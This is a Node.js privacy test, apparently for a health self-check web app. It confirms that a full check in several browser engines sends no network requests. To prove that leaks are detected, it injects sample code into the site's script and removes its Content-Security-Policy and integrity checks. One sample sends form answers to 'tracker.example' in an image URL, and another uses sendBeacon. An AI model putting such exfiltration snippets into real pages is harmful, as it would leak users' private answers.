// nothing_leaves.test.mjs - a whole check with all that goes with it, and not one request to anybody: in every engine behind a proxy that
// writes down whom the browser wants to talk to, and in a network that has nothing but this machine in it. A page that does leak is caught.
//   NIGHTLEGS_ALONE=1   what the test runs inside of that network
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { openEngine, whyNotEngine } from '../support/engines.mjs';
import { openHost } from '../support/host.mjs';
import { openProxy } from '../support/proxy.mjs';
import { siteFiles } from '../support/versions.mjs';

const read = (path) => JSON.parse(readFileSync(new URL(path, import.meta.url), 'utf8'));
const { ui } = read('../../assets/words/en.json');
const calm = read('../journeys/paths.json').find(({ expect }) => expect.urgency === 'self-care').answers;
const FULL = Boolean(process.env.NIGHTLEGS_FULL);
const ALONE = Boolean(process.env.NIGHTLEGS_ALONE);

/** Runs in the page: a whole check by its contract, Keep, the sheet and what lies on the device. Gives what went wrong, or "". */
async function wholeCheck([answers, offline, kept]) {
  const find = (selector) => document.querySelector(selector);
  const until = async (what, is) => {
    for (const end = Date.now() + 30_000; Date.now() < end; await new Promise((go) => { setTimeout(go, 30); })) if (is()) return;
    throw new Error(`not in time: ${what}`);
  };
  const press = (action) => {
    if (!find(`[data-action=${action}]`)) throw new Error(`no ${action} on "${find('h1')?.textContent}"`);
    find(`[data-action=${action}]`).click();
  };
  try {
    // Until here the page may ask for its own files; the changed copies of it, without a policy, never say this.
    if (offline) await until('the copy', () => find('main').textContent.includes(offline));
    await fetch('/mark');
    press('start');
    for (let steps = 0; find('[data-question]'); ++steps) {
      if (steps > 80) throw new Error('no end');
      const id = find('[data-question]').getAttribute('data-question');
      for (const value of [answers[id] ?? []].flat()) {
        const input = find(`[data-question] input[value="${value}"]`);
        if (!input.checked) input.click();
      }
      press(answers[id] === undefined ? 'skip' : 'next');
    }
    press('keep');
    await until('kept', () => find('main').textContent.includes(kept));
    press('sheet');
    await until('the sheet', () => find('[data-action=copy]'));
    press('copy');
    press('back');
    press('review');
    press('back');
    press('device');
    await new Promise((go) => { setTimeout(go, 1500); });  // for whatever comes late
    return '';
  } catch (error) {
    return String(error);
  }
}

/**
 * A whole check on this site in this engine.
 * @returns {Promise<{host: string[], elsewhere: string[], trouble: string}>} what was asked for after the page had arrived
 */
async function watched(engine, files, { policy = true } = {}) {
  const host = await openHost(files, { policy });
  const proxy = await openProxy();
  let browser;
  try {
    browser = await openEngine(engine, { address: host.address, proxy: proxy.port });
    const tab = await browser.open('view=page');
    if (engine === 'webkit' && policy) {
      // WebKit has no cache that a page and its worker share: on the very first visit the sheet's script comes from the host once more.
      await tab.evaluate(async (words) => {
        for (const end = Date.now() + 30_000; Date.now() < end && !document.querySelector('main').textContent.includes(words);) await new Promise((go) => { setTimeout(go, 50); });
      }, ui.offline);
      await browser.open('view=page');
    }
    const trouble = await tab.evaluate(wholeCheck, [calm, policy ? ui.offline : '', ui['did-keep-ok']]);
    await tab.close();
    const from = host.log.findIndex(({ path }) => path === '/mark') + 1;
    return { host: host.log.slice(from).map(({ path, query }) => path + query), elsewhere: proxy.asked, trouble };
  } finally {
    await browser?.close();
    await proxy.close();
    await host.close();
  }
}

const engines = FULL && !ALONE ? ['chromium', 'firefox', 'webkit'] : ['chromium'];

describe('nothing leaves', () => {
  const files = siteFiles();
  for (const engine of engines) {
    test(`${engine}: a whole check, Keep, the sheet, and no request to anybody`, { skip: whyNotEngine[engine] }, async () => {
      assert.deepEqual(await watched(engine, files), { host: [], elsewhere: [], trouble: '' });
    });
  }

  if (!ALONE) {
    /** The site with this in its own script, and without the rules that would stop it. */
    const planted = (code) => new Map([...files].map(([name, bytes]) => {
      if (/^boot-.*js$/.test(name)) return [name, Buffer.concat([bytes, Buffer.from(`\n;${code}`)])];
      if (name !== 'index.html') return [name, bytes];
      return [name, Buffer.from(String(bytes).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '').replace(/(src="boot-[^"]*") integrity="[^"]*"/, '$1'))];
    }));
    const LEAKS = {
      'to somebody else, in an address': ["addEventListener('change', ({ target }) => { new Image().src = 'http://tracker.example/?' + target.value; })", ({ elsewhere }) => elsewhere.includes('tracker.example')],
      'to its own host, with an answer in it': ["addEventListener('change', ({ target }) => { navigator.sendBeacon('count?' + target.value); })", ({ host }) => host.some((path) => path.startsWith('/count?'))],
    };
    for (const [name, [code, isCaught]] of Object.entries(LEAKS).slice(0, FULL ? 2 : 1)) {
      test(`a page that leaks ${name} is caught`, { skip: whyNotEngine.chromium }, async () => {
        const seen = await watched('chromium', planted(code), { policy: false });
        assert.equal(seen.trouble, '');
        assert.ok(isCaught(seen), JSON.stringify(seen));
      });
    }

    const noNamespace = (() => {
      try {
        execFileSync('unshare', ['-n', 'sh', '-c', 'ip link set lo up'], { stdio: 'pipe' });
        return false;
      } catch (error) {
        return `no network of its own can be made here: ${String(error.message).split('\n')[0]}`;
      }
    })();
    if (FULL) test('in a network that has nothing but this machine in it, the whole check works and asks for nobody', { skip: whyNotEngine.chromium || noNamespace }, async () => {
      const inside = spawn('unshare', ['-n', 'sh', '-c', 'ip link set lo up && exec "$0" "$1"', process.execPath, fileURLToPath(import.meta.url)],
        { env: { ...process.env, NIGHTLEGS_ALONE: '1', NODE_TEST_CONTEXT: '' }, stdio: ['ignore', 'pipe', 'pipe'] });
      let said = '';
      for (const stream of [inside.stdout, inside.stderr]) stream.on('data', (data) => { said += data; });
      const code = await new Promise((resolve) => { inside.once('close', resolve); });
      assert.equal(code, 0, said.slice(-2000));
      assert.match(said, /^# pass 1$|^ℹ pass 1$/m);
    });
  }
});
